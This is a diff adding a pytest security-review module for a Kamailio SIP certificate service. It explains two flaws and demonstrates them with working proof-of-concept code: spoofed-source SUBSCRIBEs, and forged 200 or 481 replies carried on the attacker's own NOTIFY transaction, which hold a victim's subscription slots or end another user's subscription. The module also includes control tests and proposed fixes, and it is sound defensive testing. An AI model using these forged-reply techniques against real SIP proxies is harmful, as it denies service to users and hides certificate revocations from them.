@@ -1,0 +1,295 @@
+"""An eighty-ninth attacker's review (December 2026) of a77ae19: the certificate
+service (RFC 6072, ``[certs]``: ``kamailio_app/cert_route.py``,
+``cert_table.py``) and how a subscription comes off probation or ends, on a real
+Kamailio 5.6 on loopback (each party a socket on a loopback address of its own; a
+forged source address on loopback is the same as a real one to the proxy).
+
+Both holes ride one thing: ``CertService.on_reply`` (``kamailio_app/cert_route.py``,
+the ``t_check_trans`` test and the ``dialog_ids(ksr)`` line after it) asks tm whether
+the reply matches *a* NOTIFY transaction of ours, then takes the dialog the reply
+itself names (its Call-ID, From tag and To tag) and confirms (2xx) or deletes (481)
+that one.  tm matches a reply by its Via branch and CSeq method only, never by Call-ID
+or tags; and anyone can get a NOTIFY transaction of ours addressed to himself by one
+fetch (``SUBSCRIBE``, ``Expires: 0``, no account needed).  So the rule that made the
+known rows hold (a forged 2xx or 481 "matches no transaction of ours: the Via branch is
+the one thing it cannot know", docs/threat-model.md, the certificate service table) is
+met with the attacker's *own* NOTIFY's branch, and the reply's dialog is whatever he
+writes.
+
+Hole 1 (``test_hole_an_answer_to_the_forgers_own_notify_confirms_a_forged_subscription``):
+attacker: an **off-path sender** with one real address (no account).  Messages: two
+SUBSCRIBEs (``Expires: 3600``) from a forged source, the victim's address (a visited
+proxy's: all its users), which never answers; then, from his real address, two
+fetches of bob's certificate, and to each NOTIFY he gets a ``200 OK`` with that
+NOTIFY's Via and CSeq but the Call-ID he chose for a forged subscription, From tag =
+tm's To tag on it (a CRC of the Via he sent: computable offline; read here from the
+table in his stead, as ``test_certservice_attacks`` does), To tag = his forged From
+tag.  Effect: both forged subscriptions come off probation (``confirm``), are never
+dropped by the timer (``drop_unanswered``) nor made room from at a full bound
+(``_check_bounds`` evicts unconfirmed rows only): they hold the victim address's
+per-source places for the hour, and the real user behind that address gets 403 Too
+Many Subscriptions for the hour (she cannot follow bob's certificate: she is not told
+when it is replaced or revoked).  The threat model's "What it still can" says a
+bound is kept full only with forged SUBSCRIBEs younger than a second; here two
+fetches and two replies hold it for ``max_subscribe_expires``.  At fault:
+``kamailio_app/cert_route.py`` ``on_reply``: ``call_id, from_tag, to_tag =
+dialog_ids(ksr)`` (the reply's ids) after ``ksr.tm.t_check_trans()``;
+``cert_table.SubscriptionTable.confirm`` takes them as the proof.  Fix: name the
+dialog from the transaction's request, not from the reply: ``$T_req($ci)``,
+``$T_req($ft)``, ``$T_req($tt)`` (the NOTIFY we sent), and drop a reply whose own ids
+differ; or keep the NOTIFY's branch with the subscription (a column set when the
+NOTIFY is sent) and confirm only the row whose branch the reply's Via carries.
+
+Hole 2 (``test_hole_a_481_on_the_attackers_own_notify_ends_alices_subscription``):
+attacker: an **untrusted hop** (or anyone who once saw alice's SUBSCRIBE and its
+200: the Call-ID and tags; he need not stay on the path).  Messages: one fetch of his
+own from anywhere, and to its NOTIFY a ``481`` with that NOTIFY's Via and CSeq but
+alice's Call-ID and tags.  Effect: alice's subscription to bob's certificate is
+deleted (``forget_dialog``); when bob then publishes a new certificate (a
+replacement after a key compromise; or review 60's revocation, whose followers get
+an empty NOTIFY) alice is not told: her phone keeps sealing for bob's old key until
+its own refresh finds the subscription gone.  This is the known row "a forged 481
+... any Via branch" (fixed by ``t_check_trans``) done with a branch of our own.  At
+fault and fix: as hole 1 (``forget_dialog(*dialog)`` with the reply's ids).
+
+Controls: the forged subscriptions, when the attacker answers his own NOTIFYs
+honestly (his own fetch's ids), are dropped and the real user is served
+(``test_control_*``: the set-up is the known row, and the ids are what matter);
+alice answering her own first NOTIFY 481 ends her subscription (the 481 path with
+those ids is the live one), and with no attack bob's new certificate reaches her.
+
+Tried and held (read, see the report): a 2xx or 481 from another address with a
+made-up branch (``t_check_trans``: the known rows); refresh/unsubscribe from another
+address (403, the subscription's source); a replayed SUBSCRIBE from elsewhere (403);
+adding Event ids to a dialog made elsewhere (review 26's ``SubscriptionTaken``);
+PUBLISH for another AoR spelt otherwise (``aor_of`` on the Request-URI, owner
+compared reduced).
+"""
+
+from __future__ import annotations
+
+import sqlite3
+import time
+from collections.abc import Iterator
+
+import pytest
+from cryptography.hazmat.primitives.serialization import Encoding
+
+from e2m_lab.certclient import CertClient
+from e2m_lab.kamailio_harness import ProxyHandle, SipUa, start_proxy
+from e2m_plugins.sip import SipMessage, make_response, parse
+from e2m_plugins.testpki import TestPKI, issue_user
+from kamailio_app.cert_route import UNANSWERED
+
+pytestmark = pytest.mark.kamailio
+
+USERS = {"alice": "alice-Secret-1", "bob": "bob-Secret-2", "carol": "carol-Secret-3"}
+BOB = "sip:bob@example.com"
+PER_SOURCE = 2
+_sources = iter(range(2, 250))
+
+
+def source() -> str:
+    """A fresh loopback address of this module's own (127.0.89.x)."""
+    return f"127.0.89.{next(_sources)}"
+
+
+@pytest.fixture(scope="module")
+def home(pki: TestPKI, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ProxyHandle]:
+    proxy = start_proxy(tmp_path_factory.mktemp("review89"), pki=pki, e2m=True,
+                        auth=True, users=USERS,
+                        extra={"certs": {"notify_interval": 1, "min_expires": 2,
+                                         "max_subscriptions_per_source": PER_SOURCE}})
+    yield proxy
+    proxy.stop()
+
+
+@pytest.fixture
+def made(home: ProxyHandle) -> Iterator[list]:
+    things: list = []
+    yield things
+    for thing in things:
+        thing.close()
+    db = home.directory / "certs.sqlite"
+    if db.exists():
+        with sqlite3.connect(db) as conn:
+            conn.execute("DELETE FROM cert_publications")
+            conn.execute("DELETE FROM cert_subscriptions")
+
+
+def rows(home: ProxyHandle, sql: str, *args) -> list[tuple]:
+    with sqlite3.connect(home.directory / "certs.sqlite") as conn:
+        return conn.execute(sql, args).fetchall()
+
+
+def publish(home: ProxyHandle, made: list, der: bytes) -> None:
+    bob = CertClient(home.port, "bob", password=USERS["bob"], source=source())
+    made.append(bob)
+    answer = bob.publish(der)
+    assert answer is not None and answer.status == 200, answer
+
+
+def bob_der(pki: TestPKI) -> bytes:
+    return issue_user(pki.ca, BOB, "ec").cert.public_bytes(Encoding.DER)
+
+
+def subscribe_request(ua: SipUa, expires: int) -> bytes:
+    request = ua.build("SUBSCRIBE", BOB, to=BOB, headers=[
+        ("Event", "certificate"), ("Contact", f"<sip:{ua.source}:{ua.local_port}>"),
+        ("Expires", str(expires))])
+    return request.replace("Via", ua.via()).serialize()
+
+
+def forge_subscription(home: ProxyHandle, victim: SipUa) -> tuple[SipMessage, str]:
+    """One SUBSCRIBE "from" the victim's address (who never answers); the request and
+    tm's To tag on its 200 (computable by the forger; read from the table here)."""
+    sent = subscribe_request(victim, 3600)
+    victim.sock.sendto(sent, ("127.0.0.1", home.port))
+    forged = parse(sent)
+    deadline = time.monotonic() + 2
+    while time.monotonic() < deadline:
+        found = rows(home, "SELECT local_tag FROM cert_subscriptions WHERE call_id = ?",
+                     forged.call_id)
+        if found:
+            return forged, found[0][0]
+        time.sleep(0.05)
+    raise AssertionError("the forged SUBSCRIBE was not taken")
+
+
+def own_notify(home: ProxyHandle, attacker: SipUa) -> SipMessage:
+    """The attacker's own fetch from his real address: the NOTIFY it brings, unanswered
+    (its transaction is live for 2.5 s)."""
+    sent = parse(subscribe_request(attacker, 0))
+    attacker.send(sent)
+    deadline = time.monotonic() + 3
+    while time.monotonic() < deadline:
+        message = attacker.receive(deadline - time.monotonic())
+        if message is not None and message.is_request and message.method == "NOTIFY" \
+                and message.call_id == sent.call_id:
+            return message
+    raise AssertionError("no NOTIFY for the attacker's fetch")
+
+
+def answer_as(notify: SipMessage, code: int, call_id: str, local_tag: str,
+              remote_tag: str, subscriber: str) -> SipMessage:
+    """A reply to ``notify`` (its Via, its CSeq: tm matches it) naming another dialog."""
+    reason = "OK" if code == 200 else "Call/Transaction Does Not Exist"
+    return make_response(notify, code, reason) \
+        .replace("Call-ID", call_id) \
+        .replace("From", f"<{BOB}>;tag={local_tag}") \
+        .replace("To", f"<{subscriber}>;tag={remote_tag}")
+
+
+def wait_rows(home: ProxyHandle, sql: str, want: list, *args, timeout: float) -> list:
+    deadline = time.monotonic() + timeout
+    got = rows(home, sql, *args)
+    while got != want and time.monotonic() < deadline:
+        time.sleep(0.2)
+        got = rows(home, sql, *args)
+    return got
+
+
+# -- hole 1: an off-path sender confirms forged subscriptions ---------------------------
+
+def _forged_then_answered(home, made, pki, cross: bool) -> tuple[list, SipMessage | None]:
+    publish(home, made, bob_der(pki))
+    victim = SipUa(home.port, user="carol", source=source())
+    attacker = SipUa(home.port, user="carol", source=source())
+    made += [victim, attacker]
+    forged = [forge_subscription(home, victim) for _ in range(PER_SOURCE)]
+    for request, local_tag in forged:
+        notify = own_notify(home, attacker)
+        if cross:       # his own NOTIFY's Via and CSeq, the forged dialog's ids
+            reply = answer_as(notify, 200, request.call_id, local_tag,
+                              request.from_tag or "", victim.aor)
+        else:           # his own NOTIFY answered honestly
+            reply = make_response(notify, 200, "OK")
+        attacker.send(reply)
+    time.sleep(0.3)
+    unconfirmed = rows(home, "SELECT count(*) FROM cert_subscriptions WHERE source = ? "
+                             "AND (pending & 2) = 2", victim.source)
+    left = wait_rows(home, "SELECT count(*) FROM cert_subscriptions WHERE source = ?",
+                     [(0,)], victim.source, timeout=UNANSWERED + 3)
+    # the real user behind the victim's address (another port) follows bob
+    real = CertClient(home.port, "alice", source=victim.source)
+    made.append(real)
+    answer, _ = real.subscribe(BOB, 600)
+    print(f"\n{PER_SOURCE} forged subscriptions from {victim.source}, "
+          f"{'cross-' if cross else 'honestly '}answered: unconfirmed right after "
+          f"{unconfirmed[0][0]}, left after {UNANSWERED + 3:.0f} s {left[0][0]}; "
+          f"the real user there: {answer.status if answer else None}")
+    return left, answer
+
+
+@pytest.mark.xfail(strict=True, reason="review 89: off-path sender answers its own fetch's "
+                                       "NOTIFY with a forged dialog's ids: forged "
+                                       "subscriptions confirmed, a source's places held "
+                                       "for the hour (403)")
+def test_hole_an_answer_to_the_forgers_own_notify_confirms_a_forged_subscription(home, made,
+                                                                                  pki):
+    left, answer = _forged_then_answered(home, made, pki, cross=True)
+    assert left == [(0,)], "the forged subscriptions came off probation and stay"
+    assert answer is not None and answer.status == 200, answer
+
+
+def test_control_forged_subscriptions_are_dropped_when_the_forger_answers_his_own(home, made,
+                                                                                  pki):
+    """The same forged SUBSCRIBEs and the same fetches, the attacker's 200s naming his
+    own fetches: the forged rows stay on probation, are dropped, the real user is
+    served (the known row holds; the reply's ids are what confirm)."""
+    left, answer = _forged_then_answered(home, made, pki, cross=False)
+    assert left == [(0,)]
+    assert answer is not None and answer.status == 200, answer
+
+
+# -- hole 2: a 481 on the attacker's own NOTIFY ends alice's subscription ---------------
+
+def _alice_follows(home, made, pki, answer_code: int = 200):
+    publish(home, made, bob_der(pki))
+    alice = CertClient(home.port, "alice", source=source())
+    made.append(alice)
+    alice.notify_answer = answer_code
+    answer, dialog = alice.subscribe(BOB, 600)
+    assert answer is not None and answer.status == 200 and dialog is not None, answer
+    assert len(alice.wait_notifies(1)) == 1
+    return alice, dialog
+
+
+@pytest.mark.xfail(strict=True, reason="review 89: untrusted hop's 481 to its own fetch's "
+                                       "NOTIFY with alice's ids ends her subscription: "
+                                       "bob's new certificate never reaches her")
+def test_hole_a_481_on_the_attackers_own_notify_ends_alices_subscription(home, made, pki):
+    alice, dialog = _alice_follows(home, made, pki)
+    time.sleep(1.2)                                     # past the notify interval
+    attacker = SipUa(home.port, user="carol", source=source())
+    made.append(attacker)
+    notify = own_notify(home, attacker)
+    attacker.send(answer_as(notify, 481, dialog.call_id, dialog.to_tag, dialog.from_tag,
+                            alice.ua.aor))
+    time.sleep(0.5)
+    left = rows(home, "SELECT count(*) FROM cert_subscriptions WHERE call_id = ?",
+                dialog.call_id)
+    publish(home, made, bob_der(pki))                   # bob replaces his certificate
+    told = alice.quiet(3.0)
+    print(f"\nalice's subscription after the 481: {left[0][0]} row(s); NOTIFYs of bob's "
+          f"new certificate: {len(told)}")
+    assert left == [(1,)], "a 481 on the attacker's own NOTIFY ended alice's subscription"
+    assert told and told[-1].body, "alice was not told of bob's new certificate"
+
+
+def test_control_alice_is_told_of_bobs_new_certificate(home, made, pki):
+    """No attack: bob's new certificate reaches alice in a NOTIFY."""
+    alice, dialog = _alice_follows(home, made, pki)
+    time.sleep(1.2)
+    publish(home, made, bob_der(pki))
+    told = alice.quiet(3.0)
+    assert told and told[-1].body
+
+
+def test_control_alices_own_481_ends_her_subscription(home, made, pki):
+    """The 481 path with alice's ids is the live one: her own 481 to her first NOTIFY
+    ends her subscription."""
+    alice, dialog = _alice_follows(home, made, pki, answer_code=481)
+    left = wait_rows(home, "SELECT count(*) FROM cert_subscriptions WHERE call_id = ?",
+                     [(0,)], dialog.call_id, timeout=2)
+    assert left == [(0,)]
